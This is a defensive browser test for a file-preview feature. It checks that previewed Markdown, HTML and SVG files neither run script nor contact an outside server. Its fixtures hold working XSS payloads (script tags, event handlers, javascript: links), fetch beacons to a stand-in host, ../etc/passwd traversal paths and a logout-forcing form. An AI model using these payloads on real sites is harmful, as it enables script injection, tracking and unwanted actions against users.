import { createServer } from "node:net";
import type { AddressInfo } from "node:net";
import { Account } from "@dispatch/testkit/account";
import type { Page } from "playwright-core";
import { expect } from "vitest";
import { Files } from "./files-page.ts";
import { journey } from "./journey.ts";

/** What the browser says when it refuses what a file wanted. */
const REFUSED = /Content Security Policy|sandboxed/;

const markdown = (outside: string) => `# Hostile Markdown

<script>globalThis.pwned = "script"; fetch("${outside}/md-fetch")</script>
<img src="${outside}/md-html.png" onerror="globalThis.pwned = 'onerror'" alt="html picture">
<img src="x" onerror="globalThis.pwned = 'onerror'">
<iframe src="${outside}/md-frame"></iframe><link rel="preconnect" href="${outside}/">
<form action="${outside}/md-form"><input name="a" value="b"><button>Send it</button></form>
<details open ontoggle="globalThis.pwned = 'toggle'"><summary>Folded</summary></details>
<meta http-equiv="refresh" content="0;url=${outside}/md-refresh"><base href="${outside}/">
<a href="javascript:globalThis.pwned='html link'">html link</a>

![remote picture](${outside}/md.png) ![out of it](../../../etc/passwd.png)

[script link](javascript:globalThis.pwned='link') [data link](data:text/html,<script>opener.pwned=1</script>) [up](../../../../etc/passwd)

<svg onload="globalThis.pwned = 'svg'"><script>globalThis.pwned = "svg script"</script></svg>

![a drawing](evil.svg)

The end of it.
`;

const html = (outside: string) => `<!doctype html><html><head><title>x</title>
<base href="${outside}/"><meta http-equiv="refresh" content="0;url=${outside}/refresh">
<link rel="preconnect" href="${outside}"><link rel="dns-prefetch" href="${outside}">
<link rel="stylesheet" href="${outside}/style.css"><link rel="prefetch" href="${outside}/prefetch">
<script>parent.pwned = "script"; fetch("${outside}/fetch")</script><script src="${outside}/script.js"></script>
<style>@import "${outside}/import.css"; body { background: url(${outside}/background.png) } h1 { list-style: url(/api/auth/me) }</style>
</head><body onload="parent.pwned = 'onload'"><h1>Hostile page</h1>
<img src="${outside}/picture.png" onerror="parent.pwned = 'onerror'"><img srcset="${outside}/set.png 1x"><img src="/api/auth/me">
<video src="${outside}/film.mp4" poster="${outside}/poster.png" autoplay></video><audio src="${outside}/a.mp3" autoplay></audio>
<iframe src="${outside}/frame"></iframe><iframe srcdoc="<script>top.pwned = 'nested'</script>"></iframe>
<object data="${outside}/object"></object><embed src="${outside}/embed">
<div><template shadowrootmode="open"><link rel="preconnect" href="${outside}"><img src="${outside}/shadow.png"></template></div>
<svg><image href="${outside}/svg.png"/><script>top.pwned = 'svg'</script>
<a><animate attributeName="href" to="${outside}/animated" begin="0s" fill="freeze"/><text y="20">svg link</text></a></svg>
<a id="plain" href="${outside}/link">plain link</a> <a id="top" href="${outside}/top" target="_top">top link</a>
<a id="script" href="javascript:parent.pwned='link'">script link</a> <a id="own" href="/api/auth/me" ping="${outside}/ping">own link</a>
<form action="${outside}/form" method="post"><input name="a" value="b"><button id="send">Send it</button></form>
<form action="/api/auth/logout" method="post"><button id="leave" formaction="/api/auth/logout">Leave</button></form>
</body></html>`;

const drawing = (
  outside: string,
) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="40" onload="globalThis.pwned = 'svg onload'">
<script>globalThis.pwned = "svg script"; fetch("${outside}/svg-fetch")</script><image xlink:href="${outside}/svg-image.png" width="9" height="9"/>
<foreignObject width="50" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${outside}/svg-html.png" onerror="globalThis.pwned = 'svg html'"/></body></foreignObject>
<style>@import "${outside}/svg.css"; rect { fill: url(${outside}/fill.svg#a) }</style><rect width="50" height="40"/></svg>`;

journey(
  "a hostile file that is previewed runs nothing, sends nothing, and asks nobody outside for anything",
  async ({ serve, visit }) => {
    const server = await serve();
    const owner = await Account.register(server.url);
    await using outside = await Outside.open();
    const files = await Files.make(owner, {
      "evil.md": markdown(outside.url),
      "evil.html": html(outside.url),
      "evil.svg": drawing(outside.url),
    });
    const person = await visit(server.url, { expected: [REFUSED] });
    const { page } = await person.signIn("owner@example.com", `/workspaces/${files.id}/preview?path=evil.md`);
    const asked: string[] = [];
    // One that the policy stops has begun for the browser, and never finishes.
    page.context().on("requestfinished", (request) => asked.push(request.url()));
    let dialogs = 0;
    page.on("dialog", (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });

    const document = page.getByTestId("preview-pane");
    await document.getByText("The end of it.").waitFor();
    await document.getByRole("img", { name: "a drawing" }).waitFor();
    // A picture from elsewhere is its words, which lead to it if somebody wants to go there.
    const remote = document.getByRole("link", { name: "remote picture" });
    expect(await remote.getAttribute("href")).toBe(`${outside.url}/md.png`);
    expect(await document.getByText("script link").evaluate((element) => element.closest("a"))).toBe(null);
    expect(await document.getByText("html link").evaluate((element) => element.closest("a"))).toBe(null);
    const links = await document
      .locator("article a")
      .evaluateAll((all) => all.map((a) => a.getAttribute("href")));
    expect(links.filter((href) => !href?.startsWith("http://127.0.0.1"))).toEqual([]);
    expect(
      await document
        .locator("article")
        .locator("script, iframe, form, input, svg, link, meta, base, object")
        .count(),
    ).toBe(0);

    await page.goto(`/workspaces/${files.id}/preview?path=evil.html`);
    const frame = page.frameLocator("[data-testid=preview-frame]");
    await frame.getByRole("heading", { name: "Hostile page" }).waitFor();
    const element = page.getByTestId("preview-frame");
    expect(await element.getAttribute("sandbox")).toBe("");
    expect(await element.getAttribute("srcdoc")).toMatch(
      /^<!doctype html><meta http-equiv="Content-Security-Policy" content="default-src 'none'; /,
    );
    for (const id of ["plain", "top", "script", "own", "send", "leave"])
      await frame.locator(`#${id}`).click();
    await frame.getByText("svg link").click();
    // Whatever these led to would be there instead.
    await frame.getByRole("heading", { name: "Hostile page" }).waitFor();

    await page.goto(`/workspaces/${files.id}/preview?path=evil.svg`);
    await page.getByText("50 × 40 pixels").waitFor();
    await settled(page);

    expect(await page.evaluate("globalThis.pwned")).toBe(undefined);
    expect(dialogs).toBe(0);
    expect(asked.length).toBeGreaterThan(0);
    expect(asked.filter((url) => !isOurs(url, server.url))).toEqual([]);
    expect(asked.filter((url) => url.includes("/api/auth/logout"))).toEqual([]);
    // Not even a connection, which is how a page that was told to be quiet still tells that it was opened.
    expect(outside.connections).toBe(0);
    await fetch(outside.url).catch(() => undefined);
    expect(outside.connections).toBe(1);
  },
);

const isOurs = (url: string, server: string) => /^(data:|blob:|about:)/.test(url) || url.startsWith(server);

/** Whatever the page was about to fetch it has begun to. */
async function settled(page: Page): Promise<void> {
  await page.waitForLoadState("networkidle");
}

/** Somebody else's server, who learns of it when anybody as much as dials. */
class Outside implements AsyncDisposable {
  readonly #server = createServer((socket) => {
    this.connections += 1;
    socket.on("error", () => undefined);
    socket.resume(); // what is not read keeps it open
    socket.end("HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n");
  });
  connections = 0;

  static async open(): Promise<Outside> {
    const it = new Outside();
    await new Promise<void>((resolve) => it.#server.listen(0, "127.0.0.1", resolve));
    return it;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  async [Symbol.asyncDispose]() {
    await new Promise((resolve) => this.#server.close(resolve));
  }
}
